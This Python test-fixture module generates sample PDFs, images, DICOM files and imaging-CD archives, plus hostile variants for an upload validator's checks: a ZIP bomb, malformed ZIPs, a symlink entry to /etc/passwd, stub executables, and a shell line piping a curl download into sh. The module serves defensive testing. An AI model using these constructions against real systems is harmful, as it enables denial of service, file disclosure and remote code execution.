"""Files for the content checks, all made here: no binary fixture is committed."""

import io
import random
import stat
import struct
import zipfile
import zlib
from pathlib import Path

import pikepdf
import pillow_heif
from PIL import Image
from pydicom.dataset import FileDataset, FileMetaDataset
from pydicom.uid import (
    DeflatedExplicitVRLittleEndian,
    ExplicitVRLittleEndian,
    MediaStorageDirectoryStorage,
    SecondaryCaptureImageStorage,
    generate_uid,
)

MiB = 1024 * 1024


def pdf() -> bytes:
    """A minimal valid PDF: catalog, page tree, one empty A4 page, xref table, trailer."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def pdf_frame(size: int) -> tuple[bytes, bytes]:
    """(head, tail) of a valid one-page PDF of exactly `size` bytes whose middle, of
    size - len(head) - len(tail) bytes of anything, is an unused stream: a large PDF that
    can be written in pieces, or sparsely, and that PDF readers open without reading it."""
    head = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(_PDF_OBJECTS, start=1):
        offsets.append(len(head))
        head += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets.append(len(head))
    stream = b"4 0 obj\n<< /Length %20d >>\nstream\n"  # fixed width: its length is known
    start, tail = len(head) + len(stream % 0), b""
    for _ in range(3):  # the tail's length depends on the offsets, which depend on it
        padding = size - start - len(tail)
        xref = start + padding + len(b"\nendstream\nendobj\n")
        tail = b"\nendstream\nendobj\n" + _xref_and_trailer(offsets, xref)
    return bytes(head) + stream % padding, tail


_PDF_OBJECTS = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
]


def _xref_and_trailer(offsets: list[int], xref: int) -> bytes:
    rows = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    count = len(offsets) + 1
    return b"xref\n0 %d\n0000000000 65535 f \n%s" % (
        count,
        rows,
    ) + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (count, xref)


def padded_pdf(size: int, fill: bytes = b"\0") -> bytes:
    """A valid PDF of exactly `size` bytes (see `pdf_frame`), its middle of `fill`."""
    head, tail = pdf_frame(size)
    middle = size - len(head) - len(tail)
    return head + (fill * middle)[:middle] + tail


def image(image_format: str, size: tuple[int, int] = (64, 48)) -> bytes:
    """A noisy picture (noise does not compress: truncating it cuts real image data)."""
    picture = Image.effect_noise(size, 60).convert("RGB")
    out = io.BytesIO()
    picture.save(out, format=image_format)
    return out.getvalue()


def heic(size: tuple[int, int] = (64, 48)) -> bytes:
    picture = Image.effect_noise(size, 60).convert("RGB")
    out = io.BytesIO()
    pillow_heif.from_pillow(picture).save(out, quality=80)
    return out.getvalue()


def dicom(
    *, preamble: bytes = bytes(128), syntax: str = ExplicitVRLittleEndian, pixels: int = 64 * 64
) -> bytes:
    """A secondary-capture image with file meta, written as a DICOM Part 10 file."""
    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID = SecondaryCaptureImageStorage
    meta.MediaStorageSOPInstanceUID = generate_uid()
    meta.TransferSyntaxUID = syntax
    dataset = FileDataset("scan.dcm", {}, file_meta=meta, preamble=preamble)
    dataset.SOPClassUID = meta.MediaStorageSOPClassUID
    dataset.SOPInstanceUID = meta.MediaStorageSOPInstanceUID
    dataset.PatientName = "Yamada^Hana"
    dataset.PatientID = "P-0001"
    dataset.Modality = "OT"
    dataset.Rows = dataset.Columns = int(pixels**0.5)
    dataset.SamplesPerPixel = 1
    dataset.PhotometricInterpretation = "MONOCHROME2"
    dataset.BitsAllocated = dataset.BitsStored = 8
    dataset.HighBit = 7
    dataset.PixelRepresentation = 0
    dataset.PixelData = random.Random(1).randbytes(dataset.Rows * dataset.Columns)
    out = io.BytesIO()
    dataset.save_as(out, enforce_file_format=syntax != DeflatedExplicitVRLittleEndian)
    return out.getvalue()


def deflated_dicom() -> bytes:
    return dicom(syntax=DeflatedExplicitVRLittleEndian)


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(48) + b"PE\x00\x00" * 64
SHELL_SCRIPT = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"
TEXT = "検査結果: 異常なし\n".encode()


def random_bytes(size: int = 4096) -> bytes:
    return random.Random(7).randbytes(size)


def archive(
    members: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED, **info: int
) -> bytes:
    """A ZIP of `members`; `info` sets ZipInfo attributes (external_attr, create_system)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=compression) as zf:
        for name, data in members.items():
            entry = zipfile.ZipInfo(name, date_time=(2026, 4, 1, 9, 0, 0))
            entry.compress_type = compression
            for attribute, value in info.items():
                setattr(entry, attribute, value)
            zf.writestr(entry, data)
    return out.getvalue()


def zeros_archive(path: Path, *, size: int, name: str = "zeros.pdf") -> Path:
    """A ZIP bomb: `size` bytes of zeros deflated, written in chunks so memory stays low."""
    with (
        zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf,
        zf.open(name, "w") as member,
    ):
        block = bytes(MiB)
        for _ in range(size // MiB):
            member.write(block)
    return path


def _central_entries(data: bytes) -> list[int]:
    """Offsets of the central directory headers."""
    start, found = 0, []
    while (at := data.find(b"PK\x01\x02", start)) >= 0:
        found.append(at)
        start = at + 4
    return found


def with_declared_size(data: bytes, size: int) -> bytes:
    """The archive with its central directory claiming `size` uncompressed bytes (a lie)."""
    out = bytearray(data)
    for at in _central_entries(data):
        struct.pack_into("<L", out, at + 24, size)
    return bytes(out)


def encrypted(data: bytes) -> bytes:
    """The archive with the 'encrypted' flag set on every entry, local and central."""
    out = bytearray(data)
    start = 0
    while (at := data.find(b"PK\x03\x04", start)) >= 0:
        out[at + 6] |= 0x01
        start = at + 4
    for at in _central_entries(data):
        out[at + 8] |= 0x01
    return bytes(out)


def overlapping(data: bytes) -> bytes:
    """The archive's second central entry pointing at the first member's data."""
    out = bytearray(data)
    first, second = _central_entries(data)[:2]
    out[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(out)


def symlink_archive() -> bytes:
    return archive(
        {"report.pdf": b"/etc/passwd"},
        external_attr=(stat.S_IFLNK | 0o777) << 16,
        create_system=3,
    )


def with_brands(heic_data: bytes, major: bytes, *compatible: bytes) -> bytes:
    """The HEIC with its ftyp box's brands replaced (same box size)."""
    size = int.from_bytes(heic_data[:4], "big")
    brands = (major + bytes(4) + b"".join(compatible)).ljust(size - 8, b"\x00")
    return heic_data[:8] + brands[: size - 8] + heic_data[size:]


def pdf_with(
    *,
    root: dict | None = None,
    page: dict | None = None,
    annotation: dict | None = None,
    encrypt: pikepdf.Encryption | None = None,
    embed: bytes | None = None,
) -> bytes:
    """A one-page PDF written by pikepdf, with these entries added to its catalog, its page,
    an annotation on the page; `embed` attaches a file to the document."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(595, 842))
    for key, value in (root or {}).items():
        document.Root[key] = value
    for key, value in (page or {}).items():
        document.pages[0].obj[key] = value
    if annotation is not None:
        entries = {"/Type": pikepdf.Name.Annot, "/Rect": [0, 0, 10, 10], **annotation}
        document.pages[0].obj.Annots = document.make_indirect(
            pikepdf.Array([pikepdf.Dictionary(entries)])
        )
    if embed is not None:
        document.attachments["tool.exe"] = pikepdf.AttachedFileSpec(document, embed)
    out = io.BytesIO()
    document.save(out, encryption=encrypt or False)
    return out.getvalue()


def action(kind: str, **entries: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(
        {"/S": pikepdf.Name(f"/{kind}"), **{f"/{k}": v for k, v in entries.items()}}
    )


def jpeg_comment(data: bytes, comment: bytes) -> bytes:
    """The JPEG with a COM segment holding `comment` right after SOI."""
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + data[2:]


def png_chunk(data: bytes, chunk_type: bytes, body: bytes) -> bytes:
    """The PNG with a chunk inserted right after IHDR (8 + 25 bytes)."""
    crc = zlib.crc32(chunk_type + body)
    chunk = struct.pack(">I", len(body)) + chunk_type + body + struct.pack(">I", crc)
    return data[:33] + chunk + data[33:]


ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
PE = b"MZ" + bytes(0x3A) + struct.pack("<L", 0x80) + bytes(0x40) + b"PE\x00\x00" + bytes(64)


def dicomdir() -> bytes:
    """The DICOMDIR of an imaging CD: a DICOM file that indexes the others (no pixels)."""
    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID = MediaStorageDirectoryStorage
    meta.MediaStorageSOPInstanceUID = generate_uid()
    meta.TransferSyntaxUID = ExplicitVRLittleEndian
    dataset = FileDataset("DICOMDIR", {}, file_meta=meta, preamble=bytes(128))
    dataset.FileSetID = "CD0001"
    dataset.OffsetOfTheFirstDirectoryRecordOfTheRootDirectoryEntity = 0
    dataset.OffsetOfTheLastDirectoryRecordOfTheRootDirectoryEntity = 0
    dataset.FileSetConsistencyFlag = 0
    out = io.BytesIO()
    dataset.save_as(out, enforce_file_format=True)
    return out.getvalue()


def imaging_cd() -> bytes:
    """A ZIP of an imaging CD as hospitals hand them out: images, a report, and a viewer."""
    return archive(
        {
            "DICOMDIR": dicomdir(),
            "DICOM/ST000001/IM000001": dicom(),
            "DICOM/ST000001/IM000002": dicom(),
            "REPORT/所見.txt": TEXT,
            "REPORT/report.pdf": pdf(),
            "AUTORUN.INF": b"[autorun]\r\nopen=Viewer\\viewer.exe\r\n",
            "Viewer/viewer.exe": EXE,
            "Viewer/dcmcodec.dll": PE,
            "Viewer/viewer.ini": b"[lang]\r\nja=1\r\n",
            "Viewer.app/Contents/MacOS/viewer": b"\xcf\xfa\xed\xfe" + bytes(60),
        }
    )
